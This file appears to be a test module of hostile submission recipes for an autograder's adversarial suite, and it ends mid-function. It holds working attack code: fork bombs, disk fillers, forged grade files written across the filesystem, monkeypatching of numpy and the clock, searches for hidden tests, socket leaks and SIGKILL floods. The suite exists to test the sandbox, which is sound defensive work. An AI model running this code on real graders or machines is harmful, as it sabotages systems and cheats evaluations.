"""Attack recipes for the adversarial suite (tests/test_attacks.py): hostile submissions as text.

Each attack is a submission made from the template (so an attack that gains nothing scores exactly
0 on what it attacks) or from the reference with one function replaced (so the honest parts still
score and the attacked part must not): its code is appended to `cs231n/layers.py`, where it runs
at import and where the functions it defines replace the stubs (fc_net's `from ..layers import *`
then picks them up too).

Every attack gets a prelude with what the strongest attacker could guess about the machine
(`Intel`: the batch's folders, the repository, a canary folder, listening ports), names its
processes `bnatk<NN><token>` (so the suite can tell its own leftovers from anything else running
on the machine) and marks every file it makes with the suite's token. Attacks report what they
achieved in exception messages of one short line (the judge shows the first line of a student's
exception, numbers of 6+ digits elided): `<KIND> <token> key=value ...`.

Safety belt: the attacks that write, append or signal outside their scratch act only when they
do not run as root (`_ATK_ARMED`). In a working sandbox they run as an unprivileged uid, so this
changes nothing; if the sandbox silently failed, they report `armed=0` instead of damaging the
machine the suite runs on, and the suite fails on that report.
"""

from __future__ import annotations

import textwrap
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from autograder import paths, variants

LAYERS = "cs231n/layers.py"
STUBS = ("batchnorm_forward", "batchnorm_backward", "batchnorm_backward_alt",
         "layernorm_forward", "layernorm_backward")


@dataclass(frozen=True)
class Intel:
    """What an attack knows about the world (everything it could guess, guessed right)."""

    token: str  # marks reports and every file an attack makes
    forged: str  # appears only in forged results and printed fake scores
    root: str  # the suite's folder holding SUBMISSIONS and OUT
    submissions: str
    out: str
    canary: str  # a world-writable folder with files the attacks try to modify
    repo: str
    addresses: tuple[str, ...]  # the machine's addresses (IPv4 and IPv6)
    tcp_port: int
    udp_port: int
    unix_socket: str  # a listening unix socket (in the canary folder)
    abstract_socket: str  # a listening abstract unix socket (its name, without the NUL)
    names: tuple[str, ...] = ()  # the submissions' names (for a forged gradebook)


@dataclass(frozen=True)
class Attack:
    name: str  # the submission's name in the batch
    base: str  # "reference" or "template"
    code: str  # appended to cs231n/layers.py (the prelude is added in front)
    summary: str = ""
    edits: tuple = field(default_factory=tuple)  # variants edits, before the code is appended

    @property
    def source(self) -> Path:
        return paths.SOLUTIONS if self.base == "reference" else paths.STUDENT_TEMPLATE


def label(index: int, token: str) -> str:
    """The process name (comm, at most 15 bytes) of attack number `index`."""
    return f"bnatk{index:02d}{token[:6]}"


# The prelude: helpers every attack shares ------------------------------------------------------

PRELUDE = '''

# ---- adversarial suite: attack prelude --------------------------------------------------------
import os as _atk_os
import sys as _atk_sys
import time as _atk_time


def _atk_name_process():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, _ATK["label"].encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


_atk_name_process()
# The safety belt (see tests/attacks.py): never write or signal outside the scratch as root.
_ATK_ARMED = _atk_os.geteuid() != 0


def _atk_report(kind, **fields):
    return " ".join([kind, _ATK["token"], *(f"{k}={v}" for k, v in fields.items())])


def _atk_scratch_roots():
    roots = {_atk_os.getcwd()}
    for name in ("TMPDIR", "HOME"):
        if _atk_os.environ.get(name):
            roots.add(_atk_os.environ[name])
    return {_atk_os.path.realpath(r) for r in roots}


def _atk_in_scratch(path):
    real = _atk_os.path.realpath(path)
    return any(real == r or real.startswith(r.rstrip("/") + "/") for r in _atk_scratch_roots())


def _atk_own_package():
    return _atk_os.path.dirname(_atk_os.path.realpath(__file__))


# Every search stops at this deadline, so that an attack at import ends well within the judge's
# import timeout (an attack that times out would prove nothing).
_ATK_DEADLINE = [_atk_time.monotonic() + 4.0]


def _atk_budget(seconds):
    _ATK_DEADLINE[0] = _atk_time.monotonic() + seconds


def _atk_walk(top="/", budget=4.0, skip=("/proc", "/sys", "/dev")):
    """os.walk of `top` that skips pseudo file systems and stops after `budget` seconds."""
    end = min(_atk_time.monotonic() + budget, _ATK_DEADLINE[0])
    for directory, folders, files in _atk_os.walk(top, onerror=lambda error: None):
        if _atk_time.monotonic() > end:
            return
        folders[:] = [f for f in folders
                      if _atk_os.path.join(directory, f) not in skip]
        yield directory, folders, files


def _atk_paths_in(text):
    found = set()
    for word in text.replace("\\0", " ").replace("=", " ").replace(":", " ").split():
        if word.startswith("/"):
            found.add(word.rstrip("/") or "/")
    return found


def _atk_guessed_places():
    """Every folder the code can name: what it was told, argv, environ, /proc, mount info,
    parents of its cwd, and the parents of all of those."""
    places = {_ATK["root"], _ATK["submissions"], _ATK["out"], _ATK["canary"], _ATK["repo"],
              "/autograder", "/autograder/results", "/autograder/source",
              "/autograder/submission", "/tmp", "/var/tmp", "/dev/shm", "/srv", "/home",
              "/root", "/work", _atk_os.getcwd()}
    places |= _atk_paths_in(" ".join(_atk_sys.argv))
    places |= _atk_paths_in(" ".join(_atk_os.environ.values()))
    try:
        pids = [p for p in _atk_os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as stream:
                    places |= _atk_paths_in(stream.read().decode(errors="replace"))
            except OSError:
                pass
        for link in ("cwd", "root"):
            try:
                places.add(_atk_os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
    try:
        with open("/proc/self/mountinfo") as stream:
            for line in stream:
                fields = line.split()
                places.update(fields[3:5])  # the host's path of a bind mount, and where it is
    except OSError:
        pass
    with_parents = set()
    for place in places:
        place = _atk_os.path.normpath(place)
        while place not in with_parents:
            with_parents.add(place)
            place = _atk_os.path.dirname(place)
    return sorted(with_parents)


def _atk_fake(name):
    """A stand-in for a stub that returns zeros of the right shapes (for lying attacks)."""
    import numpy as np

    def forward(x, gamma, beta, param):
        return np.zeros_like(x), (x, gamma, beta)

    def backward(dout, cache):
        D = dout.shape[1]
        return np.zeros_like(dout), np.zeros(D), np.zeros(D)

    return forward if name.endswith("forward") else backward


def _atk_replace_stubs(make):
    for stub in ("batchnorm_forward", "batchnorm_backward", "batchnorm_backward_alt",
                 "layernorm_forward", "layernorm_backward"):
        globals()[stub] = make(stub)


def _atk_raising(report):
    def make(stub):
        def raising(*args, **kwargs):
            raise RuntimeError(report() if callable(report) else report)
        return raising
    return make
# ---- end of the prelude -----------------------------------------------------------------------

'''


# The attacks -----------------------------------------------------------------------------------

def _code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


TRIVIAL_ZEROS = Attack("zeros everywhere", "template", _code('''
    _atk_replace_stubs(_atk_fake)
'''), "not an attack but the control of the lying ones: every layer returns zeros of the "
      "right shapes (a constant forward, a zero backward), computing nothing")

INFINITE_LOOP = Attack("infinite loop in a function", "reference", _code('''
    def batchnorm_backward(dout, cache):
        while True:
            pass
'''), "batchnorm_backward never returns")

HANG_AT_IMPORT = Attack("hang at import", "template", _code('''
    while True:
        pass
'''), "the package never finishes importing")

SYS_EXIT_AT_IMPORT = Attack("sys exit at import", "template", _code('''
    import sys
    sys.exit(0)
'''), "sys.exit(0) while the package is imported")

OS_EXIT_IN_A_FUNCTION = Attack("os exit in a function", "reference", _code('''
    def batchnorm_backward(dout, cache):
        import os
        os._exit(0)
'''), "os._exit(0) inside batchnorm_backward")

MEMORY_BOMB = Attack("memory bomb", "reference", _code('''
    _atk_hoard = []


    def batchnorm_backward(dout, cache):
        import numpy as np
        hoard = []
        try:
            while True:
                hoard.append(np.ones(2**24))  # 128 MiB, touched
        finally:
            _atk_hoard.append(len(hoard))
'''), "batchnorm_backward allocates 128 MiB blocks until it cannot")

def fork_flood(daemons: int = 5, children: int = 300, name: str = "fork flood") -> Attack:
    """At import: `daemons` detached daemons first (double fork, new session, cwd /, exec'd
    as `sleep` under the attack's name: nothing left that points at the worker), then up to
    `children` children in sessions of their own, ignoring SIGTERM, sleeping 1000 s."""
    return Attack(name, "reference", _code(f'''
        _ATK_FLOOD = ({daemons}, {children})
    ''') + _code('''
        def _atk_daemon():
            import shutil
            sleep = shutil.which("sleep") or "/bin/sleep"
            pid = _atk_os.fork()
            if pid:
                _atk_os.waitpid(pid, 0)
                return
            try:
                _atk_os.setsid()
                if _atk_os.fork() == 0:
                    _atk_os.chdir("/")
                    _atk_os.execv(sleep, [_ATK["label"] + "-daemon", "1000"])
            finally:
                _atk_os._exit(0)


        def _atk_flood(count):
            import signal
            born = 0
            for _ in range(count):
                try:
                    pid = _atk_os.fork()
                except OSError:
                    break
                if pid == 0:
                    try:
                        _atk_os.setsid()
                        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                            signal.signal(number, signal.SIG_IGN)
                        _atk_time.sleep(1000)
                    finally:
                        _atk_os._exit(0)
                born += 1
            return born


        for _ in range(_ATK_FLOOD[0]):
            try:
                _atk_daemon()
            except OSError:
                pass
        _ATK_BORN = _atk_flood(_ATK_FLOOD[1])
    '''), f"{daemons} detached daemons, then {children} children in sessions of their own, "
        "ignoring SIGTERM, sleeping 1000 s, at import")


FORK_FLOOD = fork_flood()


def disk_filler(name: str = "disk filler", targets: str = "all", cap_mib: int = 2048) -> Attack:
    """Write 1 MiB blocks until it fails to each target (a new file whenever the file size
    limit stops one), at most cap_mib per target; report MiB written and why each stopped."""
    chosen = ('["cwd", "TMPDIR", "HOME", "stdout"]' if targets == "scratch" else
              '["cwd", "TMPDIR", "HOME", "stdout", "/tmp", "/var/tmp", "/dev/shm", "/", "canary", '
              '"out", "submissions", "own"]')
    return Attack(name, "template", _code(f'''
        _ATK_FILL_TARGETS = {chosen}
        _ATK_FILL_CAP = {cap_mib}
    ''') + _code('''
        def _atk_fill():
            import errno
            import signal
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails instead
            block = bytes([0xA5]) * 2**20
            where = {"cwd": _atk_os.getcwd(), "TMPDIR": _atk_os.environ.get("TMPDIR", ""),
                     "HOME": _atk_os.environ.get("HOME", ""), "canary": _ATK["canary"],
                     "out": _ATK["out"], "submissions": _ATK["submissions"],
                     "own": _atk_own_package()}
            seen, results, total = set(), [], 0
            for target in _ATK_FILL_TARGETS:
                if target == "stdout":  # its log, wherever the judge keeps it
                    written, why = 0, "cap"
                    try:
                        while written < _ATK_FILL_CAP * 2**20:
                            written += _atk_os.write(1, block)
                    except OSError as error:
                        why = errno.errorcode.get(error.errno, "error")
                    results.append(f"stdout={written // 2**20}:{why}")
                    continue
                folder = where.get(target, target)
                short = target.strip("/").replace("/", "_") or "root"
                real = _atk_os.path.realpath(folder) if folder else ""
                if not folder or real in seen:
                    continue
                seen.add(real)
                if not _ATK_ARMED and not _atk_in_scratch(folder):
                    results.append(f"{short}=disarmed")
                    continue
                written, index, why = 0, 0, "cap"
                while written < _ATK_FILL_CAP * 2**20:
                    path = _atk_os.path.join(folder, f"fill-{_ATK['token']}-{index}")
                    index += 1
                    try:
                        with open(path, "wb", buffering=0) as stream:
                            while written < _ATK_FILL_CAP * 2**20:
                                count = stream.write(block)
                                written += count
                                if count < len(block):
                                    raise OSError(errno.EFBIG, "short write")
                    except OSError as error:
                        why = errno.errorcode.get(error.errno, "error")
                        if error.errno == errno.EFBIG:
                            continue
                        break
                total += written
                results.append(f"{short}={written // 2**20}:{why}")
            return total // 2**20, results


        _ATK_FILLED = _atk_fill()
        _atk_replace_stubs(_atk_raising(
            _atk_report("FILLED", total_mib=_ATK_FILLED[0], where=",".join(_ATK_FILLED[1]))))
    '''), "fills its cwd, $TMPDIR, /tmp, /dev/shm, /var/tmp, the folders it was told of and its "
      "stdout")


FORGE_RESULTS = Attack("forge results", "template", _code('''
    def _atk_forged_files():
        import json
        questions = {"bn_forward_train": 10, "bn_forward_test": 6, "bn_backward": 10,
                     "bn_backward_alt": 6, "bn_backward_alt_speed": 4, "fc_net_batchnorm": 10,
                     "ln_forward": 6, "ln_backward": 8, "fc_net_layernorm": 8}
        record = {"score": 68, "output": _ATK["forged"], "stdout_visibility": "visible",
                  "tests": [{"name": q, "score": p, "max_score": p, "output": _ATK["forged"]}
                            for q, p in questions.items()],
                  "extra_data": {"batch": {"status": "ok", "forged": _ATK["forged"],
                                           "row": {"total": "68", "status": "ok"}}}}
        header = ["submission", *questions, "total", "status"]
        rows = [",".join([name, *(str(p) for p in questions.values()), "68", "ok"])
                for name in _ATK["names"]]
        rows.append(",".join([_ATK["forged"], *(str(p) for p in questions.values()), "68",
                              "ok"]))
        book = "\\n".join([",".join(header), *rows]) + "\\n"
        return {"results.json": json.dumps(record), "grades.csv": book,
                "feedback.md": f"**Auto-graded score: 68 / 68** {_ATK['forged']}\\n"}


    def _atk_write(path, text, written):
        try:
            with open(path, "w") as stream:
                stream.write(text)
        except OSError:
            return
        written.append(path)


    def _atk_forge():
        if not _ATK_ARMED:
            return _atk_report("FORGE", armed=0)
        forged = _atk_forged_files()
        written, files, folders = [], set(), set(_atk_guessed_places())
        for directory, subfolders, names in _atk_walk("/", budget=3.0):
            for name in names:
                if name in forged:
                    files.add(_atk_os.path.join(directory, name))
            low = _atk_os.path.basename(directory).lower()
            if any(word in low for word in ("out", "result", "grade", "autograder")) \\
                    or _atk_os.access(directory, _atk_os.W_OK):
                folders.add(directory)
        for path in sorted(files):
            _atk_write(path, forged[_atk_os.path.basename(path)], written)
        for folder in sorted(folders):
            for name, text in forged.items():
                _atk_write(_atk_os.path.join(folder, name), text, written)
            try:  # one level down too: OUT/<submission>/results.json
                children = [_atk_os.path.join(folder, c) for c in _atk_os.listdir(folder)]
            except OSError:
                children = []
            for child in children[:200]:
                if _atk_os.path.isdir(child):
                    _atk_write(_atk_os.path.join(child, "results.json"), forged["results.json"],
                               written)
        try:
            _atk_os.makedirs("/autograder/results", exist_ok=True)
        except OSError:
            pass
        _atk_write("/autograder/results/results.json", forged["results.json"], written)
        outside = [path for path in written if not _atk_in_scratch(path)]
        return _atk_report("FORGE", armed=1, folders=len(folders), files=len(files),
                           outside=len(outside), first=(outside or ["none"])[0][:60])


    _ATK_FORGED = [_atk_forge()]


    def _atk_forge_again(stub):
        def forge(*args, **kwargs):
            if len(_ATK_FORGED) < 4:  # again while the judge is at work (a few times: it is slow)
                _atk_budget(2.0)
                _ATK_FORGED.append(_atk_forge())
            raise RuntimeError(_ATK_FORGED[-1])
        return forge


    _atk_replace_stubs(_atk_forge_again)
'''), "writes results.json, grades.csv and feedback.md everywhere it can name or find")

FAKE_SCORE = Attack("fake score", "template", _code('''
    _ATK_FAKE = [f'{{"score": 68, "max_score": 68, "note": "{_ATK["forged"]}"}}',
                 f"total 68/68 {_ATK['forged']}", f"All tests passed! {_ATK['forged']}",
                 f"bn_forward_train 10/10 {_ATK['forged']}"]


    def _atk_shout():
        for line in _ATK_FAKE:
            print(line)
            print(line, file=_atk_sys.stderr)
            for fd in (1, 2):
                try:
                    _atk_os.write(fd, (line + "\\n").encode())
                except OSError:
                    pass
        _atk_sys.stdout.flush()


    _atk_shout()


    def _atk_shouting(stub):
        def shout(*args, **kwargs):
            _atk_shout()
            if stub.endswith("forward"):  # zeros, so that the judge goes on to the backward
                return _atk_fake(stub)(*args, **kwargs)
            # The one line of an exception message the feedback shows, dressed as its score.
            raise RuntimeError("**Auto-graded score: 68 / 68** All tests passed!")
        return shout


    _atk_replace_stubs(_atk_shouting)
'''), "prints fake scores (JSON, 'total 68/68', otter's 'All tests passed!'), returns zeros from "
      "the forward functions and raises a fake score line from the backward ones")

MONKEYPATCH = Attack("monkeypatch numpy judge and clock", "template", _code('''
    import numpy as _atk_np


    def _atk_patch():
        np = _atk_np
        done = []
        true = lambda *args, **kwargs: True  # noqa: E731

        def set_(owner, name, value):
            try:
                setattr(owner, name, value)
                done.append(name)
            except Exception:
                pass

        for name in ("allclose", "array_equal", "array_equiv"):
            set_(np, name, true)
        set_(np, "isclose", lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool))
        for name in dir(np.testing):
            if name.startswith("assert"):
                set_(np.testing, name, lambda *args, **kwargs: None)
        zeros = lambda x, *args, **kwargs: np.zeros(np.shape(x))  # noqa: E731
        for name in ("abs", "absolute", "fabs"):
            set_(np, name, zeros)
        for name in ("max", "amax", "min", "amin"):
            set_(np, name, lambda *args, **kwargs: 0.0)
        set_(np, "all", true)
        set_(np, "any", lambda *args, **kwargs: False)
        set_(np.linalg, "norm", lambda *args, **kwargs: 0.0)
        # ndarray's own methods: setattr is refused; its type dict can still be edited.
        lies = {"all": lambda self, *a, **k: True, "any": lambda self, *a, **k: False,
                "max": lambda self, *a, **k: 0.0, "tolist": lambda self: [],
                "__eq__": lambda self, other: True, "__abs__": lambda self: self * 0}
        for name, lie in lies.items():
            set_(np.ndarray, name, lie)
        try:
            import ctypes
            import gc
            slots = gc.get_referents(np.ndarray.__dict__)[0]
            for name, lie in lies.items():
                slots[name] = lie
            ctypes.pythonapi.PyType_Modified(ctypes.py_object(np.ndarray))
            done.append("ndarray-dict")
        except Exception:
            pass
        # The clock.
        import time
        for name in ("perf_counter", "process_time", "time", "monotonic", "thread_time"):
            set_(time, name, lambda: 0.0)
            set_(time, name + "_ns", lambda: 0)
        set_(_atk_os, "times", lambda: _atk_os.times_result((0.0, 0.0, 0.0, 0.0, 0.0)))
        try:
            import resource
            real = resource.getrusage
            set_(resource, "getrusage", lambda who: real(who)._replace(ru_utime=0.0,
                                                                       ru_stime=0.0)
                 if hasattr(real(who), "_replace") else real(who))
        except Exception:
            pass
        # The judge's comparison helpers, if they can be imported from anywhere.
        judge = "no"
        for place in [None, "/autograder/source", "/autograder", _ATK["repo"],
                      *_atk_guessed_places()]:
            if place is not None and place not in _atk_sys.path:
                _atk_sys.path.append(place)
            try:
                import autograder.checks.base as base
            except Exception:
                continue
            for name in ("rel_error",):
                set_(base, name, lambda *args, **kwargs: 0.0)
            for name in ("expect_close", "expect_numeric_gradients"):
                set_(base, name, lambda *args, **kwargs: None)
            set_(base, "matches", true)
            judge = "yes"
            break
        return _atk_report("PATCHED", judge_import=judge, patched=len(done))


    _ATK_PATCHED = _atk_patch()
    _atk_replace_stubs(_atk_fake)


    def batchnorm_backward_alt(dout, cache):
        raise RuntimeError(_ATK_PATCHED)
'''), "patches numpy's comparisons and ndarray methods, the judge's helpers, and the clock; "
      "returns zeros")

CLOCK_ON_STAGED_ALT = Attack("clock patch on staged alt", "reference", _code('''
    def _atk_stop_the_clock():
        import time
        for name in ("perf_counter", "process_time", "time", "monotonic", "thread_time"):
            setattr(time, name, lambda: 0.0)
            setattr(time, name + "_ns", lambda: 0)
        _atk_os.times = lambda: _atk_os.times_result((0.0, 0.0, 0.0, 0.0, 0.0))
        import resource
        resource.getrusage = lambda who: resource.struct_rusage((0.0,) * 16)


    _atk_stop_the_clock()


    def batchnorm_backward_alt(dout, cache):
        return batchnorm_backward(dout, cache)
'''), "batchnorm_backward_alt is the staged graph, and every clock reads 0")

LYING_SUBCLASSES = Attack("lying ndarray subclasses", "template", _code('''
    import numpy as _atk_np


    class _AtkLiar(_atk_np.ndarray):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def _zeros(self, *args, **kwargs):
            return _atk_np.zeros(self.shape).view(_AtkLiar)

        __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = _zeros

        def __abs__(self):
            return self._zeros()

        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            shape = _atk_np.broadcast(*[_atk_np.asarray(i).view(_atk_np.ndarray)
                                        for i in inputs if hasattr(i, "shape")]).shape
            if ufunc.__name__ in ("equal", "isclose", "less_equal", "greater_equal", "isfinite"):
                return _atk_np.ones(shape, bool)
            return _atk_np.zeros(shape)

        def __array_function__(self, function, types, args, kwargs):
            if function.__name__ in ("allclose", "array_equal", "all"):
                return True
            return _atk_np.zeros(self.shape)

        def tolist(self):
            return [0.0] * len(self)

        def all(self, *args, **kwargs):
            return True

        def max(self, *args, **kwargs):
            return 0.0

        def __float__(self):
            return 0.0


    def _atk_lying(stub):
        honest = _atk_fake(stub)

        def lie(*args, **kwargs):
            result = honest(*args, **kwargs)
            return tuple(r.view(_AtkLiar) if isinstance(r, _atk_np.ndarray) else r
                         for r in result)
        return lie


    _atk_replace_stubs(_atk_lying)
'''), "returns ndarray subclasses whose comparisons, arithmetic, ufuncs and tolist lie")

MEMOIZING = Attack("memoizing between calls", "reference", _code('''
    _ATK_MEMO = {}


    def _atk_key(dout, cache):
        import hashlib
        digest = hashlib.blake2b(dout.tobytes(), digest_size=16)
        for item in cache if isinstance(cache, tuple) else (cache,):
            digest.update(getattr(item, "tobytes", lambda: repr(item).encode())())
        return id(dout), id(cache), digest.hexdigest()


    def batchnorm_backward_alt(dout, cache):
        key = _atk_key(dout, cache)
        hit = _ATK_MEMO.get(key)
        if hit is not None:
            return hit
        result = batchnorm_backward(dout, cache)
        if len(_ATK_MEMO) > 20000:
            _ATK_MEMO.clear()
        _ATK_MEMO[key] = result
        return result
'''), "the staged graph as alt, behind a cache keyed on the inputs (ids and bytes)")

PRECOMPUTING = Attack("precomputing in the dout generator", "reference", _code('''
    import numpy as _atk_np

    _ATK_LAST = {}
    _ATK_READY = {}
    _atk_honest_forward = batchnorm_forward
    _atk_real_rng = _atk_np.random.default_rng


    def batchnorm_forward(x, gamma, beta, bn_param):
        out, cache = _atk_honest_forward(x, gamma, beta, bn_param)
        if cache is not None:
            _ATK_LAST["cache"], _ATK_LAST["shape"] = cache, x.shape
        return out, cache


    class _AtkGenerator:
        """default_rng's generator, but every dout it draws gets its gradient ready at once."""

        def __init__(self, *args, **kwargs):
            self._real = _atk_real_rng(*args, **kwargs)

        def standard_normal(self, *args, **kwargs):
            dout = self._real.standard_normal(*args, **kwargs)
            if "cache" in _ATK_LAST and dout.shape == _ATK_LAST["shape"]:
                _ATK_READY[id(dout)] = (dout, batchnorm_backward(dout, _ATK_LAST["cache"]))
            return dout

        def __getattr__(self, name):
            return getattr(self._real, name)


    _atk_np.random.default_rng = _AtkGenerator


    def batchnorm_backward_alt(dout, cache):
        ready = _ATK_READY.pop(id(dout), None)
        if ready is not None and ready[0] is dout:
            return ready[1]
        return batchnorm_backward(dout, cache)
'''), "the staged graph, computed when the judge's dout is drawn (outside the timed calls); "
      "alt itself only looks the answer up")

DEFERRING = Attack("deferring the work past the timed calls", "reference", _code('''
    class _AtkLater:
        """The gradients of one call, computed only when somebody reads them."""

        def __init__(self, dout, cache):
            self._args, self._value = (dout, cache), None

        def __getitem__(self, index):
            if self._value is None:
                self._value = batchnorm_backward(*self._args)
            return self._value[index]

        def __len__(self):
            return 3

        def __iter__(self):
            return iter([self[0], self[1], self[2]])


    def batchnorm_backward_alt(dout, cache):
        if _atk_sys._getframe(1).f_code.co_name == "op_batch":  # a timed call: answer later
            return _AtkLater(dout, cache)
        return batchnorm_backward(dout, cache)
'''), "the staged graph, but a call made by the worker's timed batch returns a lazy object "
      "computed only when the judge reads it (only sampled calls are read)")

SEARCH_REFERENCE = Attack("search for the reference", "template", _code('''
    def _atk_import_donor(folder, index):
        """Import the package in `folder` under a name of its own; it if works."""
        import importlib.util
        import numpy as np
        name = f"_atk_donor_{index}"
        try:
            spec = importlib.util.spec_from_file_location(
                name, _atk_os.path.join(folder, "__init__.py"), submodule_search_locations=[folder])
            package = importlib.util.module_from_spec(spec)
            _atk_sys.modules[name] = package
            spec.loader.exec_module(package)
            layers = importlib.import_module(name + ".layers")
            layers.batchnorm_forward(np.ones((2, 3)), np.ones(3), np.zeros(3), {"mode": "train"})
            return layers
        except BaseException:
            return None


    def _atk_find_donors():
        import zipfile
        own = _atk_own_package()
        candidates, zips, seen = [], [], set()
        places = [_ATK["repo"] + "/solutions", _ATK["repo"] + "/assignment", _ATK["submissions"],
                  *_atk_guessed_places(), "/"]
        for place in places:
            for directory, folders, files in _atk_walk(place, budget=2.0):
                if directory in seen:
                    folders[:] = []
                    continue
                seen.add(directory)
                if _atk_os.path.basename(directory) == "cs231n" and "layers.py" in files \\
                        and _atk_os.path.realpath(directory) != own:
                    candidates.append(directory)
                zips += [_atk_os.path.join(directory, f) for f in files if f.endswith(".zip")]
        for index, folder in enumerate(candidates[:20]):
            donor = _atk_import_donor(folder, index)
            if donor is not None:
                return [donor], len(candidates), len(zips)
        for index, archive in enumerate(zips[:50]):
            try:
                with zipfile.ZipFile(archive) as opened:
                    names = [n for n in opened.namelist() if n.endswith("cs231n/layers.py")]
                    if not names:
                        continue
                    target = _atk_os.path.join(_atk_os.getcwd(), f"donor-{index}")
                    opened.extractall(target)
            except Exception:
                continue
            candidates.append(archive)
            donor = _atk_import_donor(_atk_os.path.join(target, names[0][:-len("/layers.py")]),
                                      100 + index)
            if donor is not None:
                return [donor], len(candidates), len(zips)
        return [], len(candidates), len(zips)


    _ATK_DONORS, _ATK_CANDIDATES, _ATK_ZIPS = _atk_find_donors()


    def _atk_delegating(stub):
        def delegate(*args, **kwargs):
            for donor in _ATK_DONORS:
                return getattr(donor, stub)(*args, **kwargs)
            raise RuntimeError(_atk_report("SEARCH", donors=len(_ATK_DONORS),
                                           candidates=_ATK_CANDIDATES, zips=_ATK_ZIPS))
        return delegate


    _atk_replace_stubs(_atk_delegating)
'''), "walks / (and every path it can name) for another cs231n package or zip, imports it and "
      "delegates every stub to it")

SEARCH_HIDDEN_TESTS = Attack("search for the hidden tests", "template", _code('''
    def _atk_find_tests():
        own = _atk_own_package()
        found, texts, scanned = [], [], 0
        names = {"bn_forward_train.py", "bn_backward.py", "base.py", "batchnorm.py",
                 "layernorm.py", "speed.py", "fc_net.py", "judge.py"}
        # What the judge's checks and otter test files hold, and the otter library does not.
        markers = ("bn_forward_train", "bn_forward_test", "bn_backward_alt", "fc_net_batchnorm",
                   "ln_forward", "ln_backward", "fc_net_layernorm", "import CheckFailed")
        places = [_ATK["repo"] + "/autograder", _ATK["repo"], *_atk_guessed_places(), "/"]
        seen = set()
        end = _atk_time.monotonic() + 5.0
        for place in places:
            for directory, folders, files in _atk_walk(place, budget=2.0):
                if directory in seen or _atk_time.monotonic() > end:
                    folders[:] = []
                    continue
                seen.add(directory)
                if _atk_os.path.realpath(directory).startswith(own):
                    continue
                parts = set(directory.split("/"))
                suspicious = bool(parts & {"autograder", "checks", "tests", "source"})
                for name in files:
                    if not name.endswith((".py", ".json", ".txt", ".md", ".ipynb")):
                        continue
                    path = _atk_os.path.join(directory, name)
                    if not (suspicious or name in names or "site-packages" not in directory):
                        continue
                    scanned += 1
                    try:
                        if _atk_os.path.getsize(path) > 2**20:
                            continue
                        with open(path, errors="replace") as stream:
                            text = stream.read()
                    except OSError:
                        continue
                    if any(marker in text for marker in markers):
                        found.append(path)
                        texts.append(text)
        return found, texts, scanned


    _ATK_TESTS, _ATK_TEXTS, _ATK_SCANNED = _atk_find_tests()


    def _atk_leaking(stub):
        def leak(*args, **kwargs):
            lines = [line.strip() for text in _ATK_TEXTS for line in text.splitlines()
                     if len(line.strip()) > 20]
            raise RuntimeError(_atk_report("HIDDEN", files=len(_ATK_TESTS)) + " | "
                               + " | ".join(lines[:40]))
        return leak


    _atk_replace_stubs(_atk_leaking)
'''), "walks / for the hidden checks and otter test files and raises their text")


NETWORK = Attack("network", "template", _code('''
    def _atk_network():
        import socket
        payload = b"LEAK " + _ATK["token"].encode() + b"\\n"
        try:
            with open(_atk_os.path.join(_atk_own_package(), "layers.py"), "rb") as stream:
                payload += stream.read()[:65536]
        except OSError:
            pass
        tried, connected, sent = 0, [], []
        for address in ["127.0.0.1", "::1", "localhost", *_ATK["addresses"]]:
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            tried += 2
            try:
                with socket.socket(family, socket.SOCK_STREAM) as connection:
                    connection.settimeout(1.0)
                    connection.connect((address, _ATK["tcp_port"]))
                    connection.sendall(payload)
                    connected.append(address)
            except OSError:
                pass
            try:  # a datagram may be "sent" inside an empty network namespace: it goes nowhere
                with socket.socket(family, socket.SOCK_DGRAM) as connection:
                    connection.sendto(payload[:1400], (address, _ATK["udp_port"]))
                    sent.append(address)
            except OSError:
                pass
        for name in (_ATK["unix_socket"], "\\0" + _ATK["abstract_socket"]):
            tried += 1
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                    connection.settimeout(1.0)
                    connection.connect(name)
                    connection.sendall(payload)
                    connected.append("unix")
            except OSError:
                pass
        return _atk_report("NET", tried=tried, connected=len(connected), udp_sent=len(sent),
                           first=(connected or ["none"])[0])


    _ATK_NET = [_atk_network()]


    def _atk_networking(stub):
        def call(*args, **kwargs):
            if len(_ATK_NET) < 4:
                _ATK_NET.append(_atk_network())
            raise RuntimeError(_ATK_NET[-1])
        return call


    _atk_replace_stubs(_atk_networking)
'''), "connects (TCP, UDP, unix and abstract sockets) to listeners on every address of the "
      "machine and sends its code")

SIGNALS = Attack("signals", "template", _code('''
    def _atk_signal_everything(seconds=2.0):
        import signal
        if not _ATK_ARMED:
            return
        me, group = _atk_os.getpid(), _atk_os.getpgrp()
        end = _atk_time.monotonic() + seconds
        while _atk_time.monotonic() < end:
            for attempt in (lambda: _atk_os.kill(_atk_os.getppid(), signal.SIGKILL),
                            lambda: _atk_os.kill(-1, signal.SIGKILL)):
                try:
                    attempt()
                except OSError:
                    pass
            for entry in _atk_os.listdir("/proc"):
                if not entry.isdigit() or int(entry) == me:
                    continue
                try:
                    _atk_os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
                try:
                    target = _atk_os.getpgid(int(entry))
                    if target != group:
                        _atk_os.killpg(target, signal.SIGKILL)
                except OSError:
                    pass
            for target in range(1, 64):
                if target != group:
                    try:
                        _atk_os.killpg(target, signal.SIGKILL)
                    except OSError:
                        pass
            _atk_time.sleep(0.05)
        _atk_os.killpg(0, signal.SIGKILL)  # last, its own group (itself included)


    _atk_signal_everything()
'''), "for 2 s at import: SIGKILL to its parent, kill(-1), every pid and process group in "
      "/proc; then killpg(0)")

APPEND_TO_OTHERS = Attack("append to other submissions", "template", _code('''
    def _atk_append():
        if not _ATK_ARMED:
            return _atk_report("APPEND", armed=0)
